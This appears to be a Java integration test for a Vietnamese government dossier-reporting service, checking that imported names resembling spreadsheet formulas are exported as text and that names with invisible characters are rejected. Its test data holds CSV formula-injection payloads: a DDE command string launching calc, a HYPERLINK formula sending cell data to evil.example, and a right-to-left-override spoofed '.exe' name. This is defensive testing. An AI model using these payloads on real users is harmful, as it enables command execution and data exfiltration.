package vn.motcua.reporting;

import static org.assertj.core.api.Assertions.assertThat;

import java.io.ByteArrayInputStream;
import java.io.StringReader;
import java.net.URI;
import java.net.http.HttpClient;
import java.net.http.HttpRequest;
import java.net.http.HttpResponse;
import java.nio.charset.StandardCharsets;
import java.util.ArrayList;
import java.util.Base64;
import java.util.List;
import java.util.stream.Stream;

import org.camunda.bpm.engine.IdentityService;
import org.dhatim.fastexcel.reader.CellType;
import org.dhatim.fastexcel.reader.ReadableWorkbook;
import org.dhatim.fastexcel.reader.Row;
import org.junit.jupiter.api.BeforeEach;
import org.junit.jupiter.api.Test;
import org.springframework.beans.factory.annotation.Autowired;
import org.springframework.boot.test.web.server.LocalServerPort;

import com.fasterxml.jackson.databind.JsonNode;
import com.fasterxml.jackson.databind.ObjectMapper;

import vn.motcua.DemoApp;
import vn.motcua.EngineRest;
import vn.motcua.identity.Office;
import vn.motcua.identity.Offices;

/**
 * Field names imported from an older system that a spreadsheet would run as formulas reach the exported report as
 * text only; names with control or invisible characters are not imported at all.
 */
@DemoApp
class ReportFormulaInjectionIntegrationTest {

    private static final String SUPERVISOR = "giamsat.congthuc";
    private static final String HEADER = "code,office,procedure,field,channel,received,appointment,finished,status,fee,paidOnline\n";
    private static final String ROW = "%s,xa-cong-thuc,2.000001.000.00.00.H56,%s,COUNTER,2024-05-02 09:00,2024-05-06 17:00,"
            + "2024-05-06 15:00,FINISHED,0,false\n";
    private static final String CALC = "@SUM(1+1)*cmd|' /C calc'!A0";
    private static final String LINK = "=HYPERLINK(\"http://evil.example/?x=\"&A1,\"Bấm vào đây\")";
    private static final String PLUS = "+1+1";
    private static final String MINUS = "-2+3";
    private static final String REPORT = "/api/reports/periodic?office=xa-cong-thuc&from=2024-05-01&to=2024-05-31";

    @LocalServerPort
    int port;
    @Autowired
    Offices offices;
    @Autowired
    IdentityService identity;

    @BeforeEach
    void anOfficeOfItsOwn() {
        offices.register(new Office("xa-cong-thuc", "000.00.84.H56", "Xã Công Thức", "Tỉnh Mẫu"));
        if (identity.createUserQuery().userId(SUPERVISOR).count() == 0) {
            var user = identity.newUser(SUPERVISOR);
            user.setPassword("demo");
            identity.saveUser(user);
            identity.createMembership(SUPERVISOR, "giam-sat");
            identity.createTenantUserMembership("xa-cong-thuc", SUPERVISOR);
        }
    }

    @Test
    void writesImportedFieldNamesThatLookLikeFormulasAsTextInCsvAndXlsx() throws Exception {
        JsonNode job = imported(HEADER + ROW.formatted("CT-0001", quoted(CALC)) + ROW.formatted("CT-0002", quoted(LINK))
                + ROW.formatted("CT-0003", PLUS) + ROW.formatted("CT-0004", MINUS));
        assertThat(job.get("imported").asInt()).as(job.toString()).isEqualTo(4);

        var csv = EngineRest.as(port, SUPERVISOR, "demo").download(REPORT + "&format=csv");
        assertThat(csv.status()).isEqualTo(200);
        assertThat(csv.body()).contains("\r\n1,\"'" + CALC + "\",", ",\"'=HYPERLINK(\"\"http://evil.example/?x=\"\"&A1,\"\"Bấm vào đây\"\")\",",
                ",\"'+1+1\",", ",\"'-2+3\",");
        var records = new CsvRecords(new StringReader(csv.body()));
        List<String> fields = new ArrayList<>();
        records.next();
        for (List<String> record = records.next(); record != null; record = records.next()) {
            assertThat(record).noneMatch(cell -> !cell.isEmpty() && "=+-@\t\r".indexOf(cell.charAt(0)) >= 0);
            if (record.size() > 1) { // the lines after the total (as of, early rule) have one cell
                fields.add(record.get(1));
            }
        }
        assertThat(fields).containsExactlyInAnyOrder("'" + CALC, "'" + LINK, "'" + PLUS, "'" + MINUS, "Tổng cộng");

        byte[] xlsx = bytes(REPORT + "&format=xlsx");
        try (var workbook = new ReadableWorkbook(new ByteArrayInputStream(xlsx)); Stream<Row> rows = workbook.getFirstSheet().openStream()) {
            var cells = rows.flatMap(row -> row.getOptionalCell(1).stream())
                    .filter(cell -> List.of(CALC, LINK, PLUS, MINUS).contains(cell.getText())).toList();
            assertThat(cells).hasSize(4).allSatisfy(cell -> {
                assertThat(cell.getType()).isEqualTo(CellType.STRING);
                assertThat(cell.getFormula()).isNull();
            });
        }
    }

    @Test
    void refusesImportedNamesWithControlOrInvisibleCharactersNamingTheField() throws Exception {
        JsonNode job = imported(HEADER + ROW.formatted("CT-0101", "Hộ tịch\u202Efdp.exe")
                + "CT-0102,xa-cong-thuc,2.000001.000\u0000.00.00.H56,Hộ tịch,COUNTER,2024-05-02 09:00,2024-05-06 17:00,2024-05-06 15:00,FINISHED,0,false\n"
                + ROW.formatted("CT-0103", "Hộ\u200Btịch"));

        assertThat(job.get("imported").asInt()).isZero();
        assertThat(job.get("rejectedRows").findValuesAsText("field")).containsExactly("field", "procedure", "field");
        assertThat(job.get("rejectedRows").findValuesAsText("reason")).containsExactly(
                "chứa ký tự điều khiển hoặc ký tự ẩn U+202E / contains the control or invisible character U+202E",
                "chứa ký tự điều khiển hoặc ký tự ẩn U+0000 / contains the control or invisible character U+0000",
                "chứa ký tự điều khiển hoặc ký tự ẩn U+200B / contains the control or invisible character U+200B");
    }

    private static String quoted(String text) {
        return "\"" + text.replace("\"", "\"\"") + "\"";
    }

    private JsonNode imported(String csv) throws Exception {
        var request = HttpRequest.newBuilder(URI.create("http://localhost:" + port + "/api/import/dossiers"))
                .header("Content-Type", "text/csv").header("Accept", "application/json").header("Authorization", basic())
                .POST(HttpRequest.BodyPublishers.ofString(csv, StandardCharsets.UTF_8)).build();
        var started = HttpClient.newHttpClient().send(request, HttpResponse.BodyHandlers.ofString());
        assertThat(started.statusCode()).as(started.body()).isEqualTo(202);
        var api = EngineRest.as(port, SUPERVISOR, "demo");
        String location = started.headers().firstValue("Location").orElseThrow();
        JsonNode job = new ObjectMapper().readTree(started.body());
        for (int i = 0; i < 300 && job.get("status").asText().equals("RUNNING"); i++) {
            Thread.sleep(50);
            job = api.get(location).json();
        }
        assertThat(job.get("status").asText()).as(job.toString()).isEqualTo("DONE");
        return job;
    }

    private byte[] bytes(String path) throws Exception {
        var request = HttpRequest.newBuilder(URI.create("http://localhost:" + port + path)).header("Authorization", basic()).GET().build();
        var response = HttpClient.newHttpClient().send(request, HttpResponse.BodyHandlers.ofByteArray());
        assertThat(response.statusCode()).isEqualTo(200);
        return response.body();
    }

    private static String basic() {
        return "Basic " + Base64.getEncoder().encodeToString((SUPERVISOR + ":demo").getBytes(StandardCharsets.UTF_8));
    }
}
